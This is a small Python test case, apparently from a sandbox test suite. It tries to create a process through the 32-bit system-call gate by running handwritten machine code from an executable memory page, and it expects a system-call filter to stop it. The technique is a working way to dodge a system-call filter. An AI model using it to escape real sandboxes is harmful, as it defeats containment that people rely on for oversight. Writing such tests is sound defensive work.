# family: processes
# tries: to make a process by the 32-bit gate, whose numbers mean other calls
# judged by: end
# ends: stopped/crash/-31
# held by: system-call filter
# machine: x86_64
import ctypes, mmap
page = mmap.mmap(-1, 4096, prot=7)
page.write(b'\x53\xb8\x02\x00\x00\x00\xcd\x80\x5b\xc3')
print('ESCAPED', ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))())
